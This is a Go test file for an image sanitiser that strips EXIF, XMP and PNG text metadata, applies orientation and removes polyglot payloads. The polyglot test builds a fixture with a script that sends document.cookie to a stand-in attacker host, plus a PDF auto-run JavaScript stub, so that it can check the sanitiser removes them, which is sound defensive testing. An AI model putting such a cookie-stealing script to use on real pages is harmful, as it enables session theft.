package inspect

import (
	"bytes"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/privacyloket/privacyloket/shared/idcheck"
)

// nearest names the fixture colour closest to c, tolerating JPEG loss.
func nearest(c color.Color) string {
	r, g, b, _ := c.RGBA()
	names := []struct {
		name string
		c    color.RGBA
	}{{"red", red}, {"green", green}, {"blue", blue}, {"white", white}}
	best, bestD := "", uint64(1<<63)
	for _, n := range names {
		dr := int64(r>>8) - int64(n.c.R)
		dg := int64(g>>8) - int64(n.c.G)
		db := int64(b>>8) - int64(n.c.B)
		if d := uint64(dr*dr + dg*dg + db*db); d < bestD {
			best, bestD = n.name, d
		}
	}
	return best
}

// corners samples the middle of each quadrant: top left, top right, bottom
// left, bottom right.
func corners(img image.Image) [4]string {
	b := img.Bounds()
	w, h := b.Dx(), b.Dy()
	return [4]string{
		nearest(img.At(b.Min.X+w/4, b.Min.Y+h/4)),
		nearest(img.At(b.Min.X+3*w/4, b.Min.Y+h/4)),
		nearest(img.At(b.Min.X+w/4, b.Min.Y+3*h/4)),
		nearest(img.At(b.Min.X+3*w/4, b.Min.Y+3*h/4)),
	}
}

func TestInspectJPEGStripsExif(t *testing.T) {
	t.Parallel()
	const secret = "GEHEIM Jan Jansen Dorpsstraat 1"
	plain := encodeJPEG(t, quadrants(400, 300))
	in := afterSOI(plain,
		exifAPP1(0, secret),
		jpegSegment(0xE1, []byte("http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>"+secret+"</x:xmpmeta>")),
		jpegSegment(0xE2, []byte("ICC_PROFILE\x00\x01\x01"+secret)),
		jpegSegment(0xED, []byte("Photoshop 3.0\x00"+secret)),
		jpegSegment(0xFE, []byte(secret)), // comment
	)
	// Guard the fixture: the secret and a GPS IFD really are in the input.
	if !bytes.Contains(in, []byte(secret)) || !bytes.Contains(in, []byte{0x88, 0x25}) || !bytes.Contains(in, []byte("Exif\x00\x00")) {
		t.Fatal("fixture lacks its EXIF/GPS metadata")
	}
	if _, err := jpeg.Decode(bytes.NewReader(in)); err != nil {
		t.Fatalf("fixture is not a valid JPEG: %v", err)
	}

	doc, err := Inspect(in)
	if err != nil {
		t.Fatalf("Inspect() = %v", err)
	}
	if diff := cmp.Diff(idcheck.Document{Kind: idcheck.KindJPEG, Pages: 1, Width: 400, Height: 300}, *doc,
		cmpIgnoreData); diff != "" {
		t.Errorf("Inspect() document (-want +got):\n%s", diff)
	}
	for _, banned := range [][]byte{[]byte(secret), []byte("Exif"), []byte("xmpmeta"), []byte("ICC_PROFILE"), []byte("Photoshop")} {
		if bytes.Contains(doc.Data, banned) {
			t.Errorf("sanitised JPEG still contains %q", banned)
		}
	}
	for _, m := range jpegSegments(t, doc.Data) {
		if m >= 0xE0 && m <= 0xEF || m == 0xFE {
			t.Errorf("sanitised JPEG has an APP%d/COM segment (marker %#x)", m-0xE0, m)
		}
	}
	img, err := jpeg.Decode(bytes.NewReader(doc.Data))
	if err != nil {
		t.Fatalf("sanitised JPEG does not decode: %v", err)
	}
	if got, want := corners(img), [4]string{"red", "green", "blue", "white"}; got != want {
		t.Errorf("sanitised JPEG quadrants = %v, want %v", got, want)
	}
}

func TestInspectJPEGAppliesOrientation(t *testing.T) {
	t.Parallel()
	plain := encodeJPEG(t, quadrants(400, 300))
	tests := []struct {
		orientation   int
		width, height int
		corners       [4]string
	}{
		{1, 400, 300, [4]string{"red", "green", "blue", "white"}},
		{2, 400, 300, [4]string{"green", "red", "white", "blue"}},
		{3, 400, 300, [4]string{"white", "blue", "green", "red"}},
		{4, 400, 300, [4]string{"blue", "white", "red", "green"}},
		{5, 300, 400, [4]string{"red", "blue", "green", "white"}},
		{6, 300, 400, [4]string{"blue", "red", "white", "green"}},
		{7, 300, 400, [4]string{"white", "green", "blue", "red"}},
		{8, 300, 400, [4]string{"green", "white", "red", "blue"}},
		{9, 400, 300, [4]string{"red", "green", "blue", "white"}}, // invalid: ignored
	}
	for _, tt := range tests {
		t.Run(string(rune('0'+tt.orientation)), func(t *testing.T) {
			t.Parallel()
			doc, err := Inspect(afterSOI(plain, exifAPP1(tt.orientation, "x")))
			if err != nil {
				t.Fatalf("Inspect() = %v", err)
			}
			if got, want := [2]int{doc.Width, doc.Height}, [2]int{tt.width, tt.height}; got != want {
				t.Errorf("size = %v, want %v", got, want)
			}
			img, err := jpeg.Decode(bytes.NewReader(doc.Data))
			if err != nil {
				t.Fatal(err)
			}
			if got, want := img.Bounds().Size(), image.Pt(tt.width, tt.height); got != want {
				t.Errorf("decoded size = %v, want %v", got, want)
			}
			if got, want := corners(img), tt.corners; got != want {
				t.Errorf("quadrants = %v, want %v", got, want)
			}
		})
	}
}

func TestExifOrientationMalformed(t *testing.T) {
	t.Parallel()
	plain := encodeJPEG(t, quadrants(300, 300))
	good := exifAPP1(6, "x")
	tests := []struct {
		name string
		data []byte
		want int
	}{
		{"well formed", afterSOI(plain, good), 6},
		{"no exif", plain, 1},
		{"exif cut short", afterSOI(plain, jpegSegment(0xE1, good[4:20])), 1},
		{"bad byte order", afterSOI(plain, jpegSegment(0xE1, append([]byte("Exif\x00\x00XX"), good[12:]...))), 1},
		{"ifd offset past the end", afterSOI(plain, jpegSegment(0xE1, []byte("Exif\x00\x00MM\x00\x2a\xff\xff\xff\xf0"))), 1},
		{"segment length past the end", []byte{0xFF, 0xD8, 0xFF, 0xE1, 0xFF, 0xFF, 'E', 'x'}, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got, want := exifOrientation(tt.data), tt.want; got != want {
				t.Errorf("exifOrientation() = %d, want %d", got, want)
			}
		})
	}
}

func TestInspectPNGStripsTextChunks(t *testing.T) {
	t.Parallel()
	const secret = "Author\x00Jan Jansen, BSN 123456782"
	src := quadrants(400, 300)
	in := afterIHDR(encodePNG(t, src),
		pngChunk("tEXt", []byte(secret)),
		pngChunk("zTXt", []byte("Comment\x00\x00x\x9c\x03\x00\x00\x00\x00\x01")),
		pngChunk("iTXt", []byte("XML:com.adobe.xmp\x00\x00\x00\x00\x00<x:xmpmeta/>")),
		pngChunk("eXIf", []byte("MM\x00\x2a\x00\x00\x00\x08\x00\x00")),
		pngChunk("tIME", []byte{0x07, 0xE9, 1, 2, 3, 4, 5}),
	)
	if _, err := png.Decode(bytes.NewReader(in)); err != nil {
		t.Fatalf("fixture is not a valid PNG: %v", err)
	}

	doc, err := Inspect(in)
	if err != nil {
		t.Fatalf("Inspect() = %v", err)
	}
	if diff := cmp.Diff(idcheck.Document{Kind: idcheck.KindPNG, Pages: 1, Width: 400, Height: 300}, *doc, cmpIgnoreData); diff != "" {
		t.Errorf("Inspect() document (-want +got):\n%s", diff)
	}
	if bytes.Contains(doc.Data, []byte("Jan Jansen")) {
		t.Errorf("sanitised PNG still contains the tEXt value")
	}
	for _, typ := range pngChunkTypes(t, doc.Data) {
		if !slices.Contains([]string{"IHDR", "PLTE", "tRNS", "IDAT", "IEND"}, typ) {
			t.Errorf("sanitised PNG has ancillary chunk %q", typ)
		}
	}
	img, err := png.Decode(bytes.NewReader(doc.Data))
	if err != nil {
		t.Fatalf("sanitised PNG does not decode: %v", err)
	}
	// PNG is lossless: every pixel must survive.
	for y := range 300 {
		for x := range 400 {
			if got, want := color.RGBAModel.Convert(img.At(x, y)), src.At(x, y); got != want {
				t.Fatalf("pixel (%d,%d) = %v, want %v", x, y, got, want)
			}
		}
	}
}

// TestInspectImagePolyglots: an image that is also an archive, a web page or
// a PDF is accepted, but only its pixels come back.
func TestInspectImagePolyglots(t *testing.T) {
	t.Parallel()
	jpg := encodeJPEG(t, quadrants(300, 300))
	pngData := encodePNG(t, quadrants(300, 300))
	zipData := zipArchive(t)
	html := []byte("<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>")
	pdf := buildPDF(pdfSpec{catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"})
	tests := []struct {
		name    string
		data    []byte
		kind    idcheck.Kind
		payload [][]byte
	}{
		{"jpeg with appended zip", append(bytes.Clone(jpg), zipData...), idcheck.KindJPEG, [][]byte{[]byte("PK\x03\x04"), []byte("payload.exe")}},
		{"jpeg with appended html", append(bytes.Clone(jpg), html...), idcheck.KindJPEG, [][]byte{[]byte("<script")}},
		{"jpeg with a pdf in a comment", afterSOI(jpg, jpegSegment(0xFE, pdf)), idcheck.KindJPEG, [][]byte{[]byte("%PDF"), []byte("JavaScript")}},
		{"png with appended zip", append(bytes.Clone(pngData), zipData...), idcheck.KindPNG, [][]byte{[]byte("PK\x03\x04"), []byte("payload.exe")}},
		{"png with appended html", append(bytes.Clone(pngData), html...), idcheck.KindPNG, [][]byte{[]byte("<script")}},
		{"png with html in a private chunk", afterIHDR(pngData, pngChunk("htMl", html)), idcheck.KindPNG, [][]byte{[]byte("<script"), []byte("htMl")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			doc, err := Inspect(tt.data)
			if err != nil {
				t.Fatalf("Inspect() = %v", err)
			}
			if got, want := doc.Kind, tt.kind; got != want {
				t.Errorf("Kind = %q, want %q", got, want)
			}
			for _, p := range tt.payload {
				if bytes.Contains(doc.Data, p) {
					t.Errorf("sanitised image still contains %q", p)
				}
			}
		})
	}
}

var cmpIgnoreData = cmp.FilterPath(func(p cmp.Path) bool { return p.String() == "Data" }, cmp.Ignore())

// TestInspectGrayJPEGOrientation covers scanners' grayscale JPEGs, which
// decode to image.Gray rather than YCbCr.
func TestInspectGrayJPEGOrientation(t *testing.T) {
	t.Parallel()
	gray := image.NewGray(image.Rect(0, 0, 400, 300))
	for y := range 300 {
		for x := range 400 {
			if x < 200 {
				gray.SetGray(x, y, color.Gray{Y: 255})
			}
		}
	}
	doc, err := Inspect(afterSOI(encodeJPEG(t, gray), exifAPP1(6, "x")))
	if err != nil {
		t.Fatalf("Inspect() = %v", err)
	}
	img, err := jpeg.Decode(bytes.NewReader(doc.Data))
	if err != nil {
		t.Fatal(err)
	}
	if got, want := img.Bounds().Size(), image.Pt(300, 400); got != want {
		t.Errorf("size = %v, want %v", got, want)
	}
	// The white left half must now be the top half.
	luma := func(x, y int) uint8 { return color.GrayModel.Convert(img.At(x, y)).(color.Gray).Y }
	if top, bottom := luma(150, 100), luma(150, 300); top < 200 || bottom > 50 {
		t.Errorf("luma top = %d, bottom = %d; want white (>200) on top and black (<50) below", top, bottom)
	}
}

// TestPNGLevel: a PNG of more than a megapixel is re-encoded for speed
// (a 3.6 MP scan from Pillow's tests took 1.1 s at the default level,
// 0.21 s at BestSpeed).
func TestPNGLevel(t *testing.T) {
	for pixels, want := range map[int]png.CompressionLevel{
		200 * 200:   png.DefaultCompression,
		1000 * 1000: png.DefaultCompression,
		1001 * 1000: png.BestSpeed,
		4160 * 870:  png.BestSpeed,
	} {
		if got := pngLevel(pixels); got != want {
			t.Errorf("pngLevel(%d) = %v, want %v", pixels, got, want)
		}
	}
}
